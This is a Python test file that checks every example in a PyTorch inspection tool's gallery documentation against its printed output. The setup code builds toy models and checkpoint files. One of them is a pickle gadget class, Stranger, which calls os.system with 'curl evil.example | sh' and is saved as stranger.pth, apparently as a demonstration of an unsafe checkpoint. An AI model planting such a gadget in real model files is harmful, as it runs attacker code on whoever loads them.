"""docs/gallery.md: every answer is the output of its lines.

A block of Python or shell is followed by a block of what it prints. They run in order;
the models and files that they speak of are made here. Times are masked."""

import contextlib
import io
import os
import re
import shlex
import traceback
import unittest
from pathlib import Path

import torch

import scope
from folder import TemporaryFolder

PAGE = Path(__file__).resolve().parents[2] / "docs/gallery.md"
SET_UP = """
import collections, os, time
import torch, torchoscope
from torch import nn

class Standardize(nn.Module):
    def forward(self, x):
        return (x - x.mean(0)) / x.std(0)

class Slow(nn.Module):
    def forward(self, x):
        time.sleep(0.2)
        return x

class Classifier(nn.Module):
    def __init__(self):
        super().__init__()
        self.body = nn.Sequential(
            nn.Conv2d(3, 16, 3), nn.BatchNorm2d(16), nn.ReLU(), nn.Flatten()
        )
        self.head = nn.Linear(16 * 30 * 30, 10)
        self.old_head = nn.Linear(16 * 30 * 30, 2)

    def forward(self, x):
        return self.head(self.body(x))

class Stranger:
    def __reduce__(self):
        return os.system, ("curl evil.example | sh",)

def named(**modules):
    return nn.Sequential(collections.OrderedDict(modules))

torch.set_num_threads(1)
torch.manual_seed(0)
net = named(embed=nn.Linear(4, 8), norm=Standardize(), head=nn.Linear(8, 2))
pipeline = named(crop=nn.Identity(), tokens=Slow(), head=nn.Linear(8, 2))
classifier = Classifier()
classifier.body.requires_grad_(False)
blocks = nn.Sequential(*[
    named(up=nn.Linear(64, 256), act=nn.GELU(), down=nn.Linear(256, 64))
    for _ in range(12)
])
language_model = named(
    embed=nn.Embedding(1000, 64), blocks=blocks, head=nn.Linear(64, 1000)
)
deep = nn.Sequential()
for i in range(5):
    deep.append(nn.Linear(16, 16)).append(nn.Sigmoid())
torch.save(classifier.state_dict(), "before.pth")
with torch.no_grad():
    classifier.head.weight += 0.01
torch.save(classifier.state_dict(), "after.pth")
torch.save({"weights": Stranger()}, "stranger.pth")
"""


def blocks(text):
    """(question, language, lines, output)"""
    for question, part in re.findall(r"^## (.+?)\n(.*?)(?=^## |\Z)", text, re.M | re.S):
        found = re.findall(r"^```(\w*)\n(.*?)^```", part, re.M | re.S)
        for (language, lines), (plain, printed) in zip(found[::2], found[1::2]):
            if plain:
                raise ValueError(f"{question}: what do these lines print? {lines}")
            yield question, language, lines, printed


def masked(text):
    """Without times, and without the spaces that depend on them."""
    text = re.sub(r"\d+(\.\d+)? ?([mμn]?s)\b", "TIME", text)
    text = re.sub(r"\d+% of TIME", "SHARE of TIME", text)
    return [" ".join(line.split()) for line in text.rstrip().splitlines()]


def run_python(lines, names):
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        try:
            exec(compile(lines, "<stdin>", "exec"), names)
        except Exception as error:  # the last line of a traceback
            print("".join(traceback.format_exception_only(error)), end="")
    return out.getvalue()


def run_shell(lines):
    """Each line is "$ torchoscope ..."."""
    said = ""
    for line in lines.splitlines():
        dollar, program, *words = shlex.split(line)
        if (dollar, program) != ("$", "torchoscope"):
            raise ValueError(f"not understood: {line}")
        said += scope.run(*words).stdout.decode()
    return said


@unittest.skipIf(torch.__version__.startswith("1."), "the answers are those of torch 2")
class Gallery(TemporaryFolder):
    def setUp(self):
        super().setUp()
        self.addCleanup(os.chdir, os.getcwd())
        os.chdir(self.folder)

    def test_every_answer_is_the_output_of_its_lines(self):
        names = {"__name__": "gallery"}
        exec(compile(SET_UP, "net.py", "exec"), names)
        questions = set()
        for question, language, lines, printed in blocks(PAGE.read_text()):
            questions.add(question)
            with self.subTest(question):
                self.assertLessEqual(len(lines.splitlines()), 3)
                if language == "python":
                    said = run_python(lines, names)
                else:
                    said = run_shell(lines)
                self.assertEqual(masked(said), masked(printed), said)
        self.assertGreaterEqual(len(questions), 10)


if __name__ == "__main__":
    unittest.main()
